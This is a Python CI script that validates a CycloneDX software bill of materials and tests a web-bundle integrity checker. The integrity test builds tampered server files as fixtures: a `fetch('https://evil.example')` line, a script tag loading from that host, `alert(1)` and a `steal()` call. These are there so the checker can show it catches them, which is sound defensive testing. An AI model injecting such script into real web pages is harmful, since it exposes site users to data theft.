"""Checks `.ci/sbom` and `.ci/web-bundle-hash`; prints what it saw and ends with 1 at the first thing that is wrong."""
import importlib.machinery
import importlib.util
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile

from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

ROOT = pathlib.Path(__file__).resolve().parents[2]
HOSTS = {"github.com", "boringssl.googlesource.com", "cyclonedx.org"}


def script(name):
    loader = importlib.machinery.SourceFileLoader(name.replace("-", "_"), str(ROOT / ".ci" / name))
    module = importlib.util.module_from_spec(importlib.util.spec_from_loader(loader.name, loader))
    loader.exec_module(module)
    return module


def written(seed, **environment):
    command = [sys.executable, "-B", ROOT / ".ci/sbom"]
    return subprocess.check_output(command, text=True, env={**os.environ, "PYTHONHASHSEED": seed, **environment})


def check(holds, what):
    if not holds:
        sys.exit(f"FAILED supply chain: {what}")


def bill_is_valid_and_the_same_each_time():
    text = written("1")
    check(text == written("2"), "two runs over one tree differ")
    error = JsonStrictValidator(SchemaVersion.V1_6).validate_str(text)
    check(error is None, f"not CycloneDX 1.6: {error}")
    bill = json.loads(text)
    broken = json.dumps({**bill, "components": [{"name": "no type"}]})
    check(JsonStrictValidator(SchemaVersion.V1_6).validate_str(broken) is not None, "the validator accepts anything")
    dated = json.loads(written("1", SOURCE_DATE_EPOCH="86400"))
    check(dated["metadata"]["timestamp"] == "1970-01-02T00:00:00Z", "SOURCE_DATE_EPOCH is not kept to")
    check("timestamp" not in bill["metadata"], "a time nobody asked for")
    return text, bill


def bill_names_no_machine(text):
    # Wherever this checkout lies, and wherever packages came from: neither is anybody's business.
    for path in (str(ROOT), str(pathlib.Path.home()), "/opt/", "/tmp/", "/usr/", "file:", "localhost"):
        check(path == "/" or path not in text, f"{path} stands in the bill")
    hosts = set(re.findall(r"https?://([^/\"]+)", text))
    check(hosts <= HOSTS, f"unexpected hosts: {sorted(hosts - HOSTS)}")


def bill_has_every_package_with_its_licence(bill):
    components = {item["name"]: item for item in bill["components"]}
    pins = json.loads((ROOT / "Package.resolved").read_text())["pins"]
    graph = script("sbom").dependencies_of_packages()
    for pin in pins:
        if pin["identity"] not in graph:
            continue
        item = components.get(pin["identity"])
        check(item and item["version"] == pin["state"]["version"], f"{pin['identity']} is missing")
        check(item.get("licenses"), f"no licence is known of {pin['identity']}: add its words to .ci/sbom")
    for name in ("libpq5", "zlib1g", "postgresql", "curl", "qrencode", "pytest"):
        check(name in components, f"{name} is missing")
    inner = [part["name"] for item in bill["components"] for part in item.get("components", [])]
    check(inner.count("boringssl") == 2, "BoringSSL is carried by swift-crypto and by swift-nio-ssl")
    return components


def page_has_the_licences_of_the_bill(components):
    page = (ROOT / "Sources/Chorus/Chorus.docc/Handbook/Dependencies.md").read_text()
    rows = re.findall(r"^\| `([\w-]+)` \| [\d.]+ \| ([^|]+?) \|", page, re.M)
    check(len(rows) > 10, "the page has no table of packages")
    for name, licence in rows:
        found = components[name.lower()]["licenses"][0]["expression"]
        check(found == licence, f"{name}: the page says {licence}, its checkout {found}")


def digest_is_of_content():
    with tempfile.TemporaryDirectory() as folder:
        file = pathlib.Path(folder) / "a.c"
        file.write_text("int a;")
        before = script("sbom").tree_digest(pathlib.Path(folder))
        file.write_text("int b;")
        check(before != script("sbom").tree_digest(pathlib.Path(folder)), "another content, the same digest")


def lying_server_is_found_out():
    bundle = script("web-bundle-hash")
    client = bundle.files()
    version = bundle.digest(client)[:16]
    below = f"/web/{version}/"
    digests = b"// Written by the server from the files themselves.\n\nexport const files = {};\n"
    integrity = bundle.integrity(client["app/main.js"])
    main = f'<script type="module" src="{below}app/main.js" integrity="{integrity}"></script>'
    honest = {path if path.startswith("/") else below + path: body for path, body in client.items()}
    honest[below + "app/digests.js"] = digests
    honest["/"] = client["app/index.html"].replace(b"<!-- files -->", main.encode())
    honest["/worker.js"] = client["app/worker.js"].replace(
        b"// files", f"const version = '{version}';\nconst files = [\"{below}app/main.js\"];".encode()
    )

    def faults(answers):
        bundle.get = lambda server, path: answers[path]
        return list(bundle.wrong_files("", client, version))

    check(faults(honest) == [], "an honest server is called a liar")
    lies = {
        below + "app/main.js": honest[below + "app/main.js"] + b"\nfetch('https://evil.example');",
        below + "app/digests.js": digests + b"alert(1);\n",
        "/": honest["/"].replace(b"</script>", b"</script><script src='https://evil.example'></script>", 1),
        "/worker.js": honest["/worker.js"].replace(b"const files", b"steal();\nconst files", 1),
        "/anonymous.js": b"",
    }
    for path, body in lies.items():
        check(faults({**honest, path: body}) == [path], f"a changed {path} goes unseen")


def main():
    text, bill = bill_is_valid_and_the_same_each_time()
    bill_names_no_machine(text)
    components = bill_has_every_package_with_its_licence(bill)
    page_has_the_licences_of_the_bill(components)
    digest_is_of_content()
    lying_server_is_found_out()
    (ROOT / ".build/sbom.json").write_text(text)
    print(f"{len(components)} components, valid CycloneDX 1.6: .build/sbom.json")


if __name__ == "__main__":
    main()
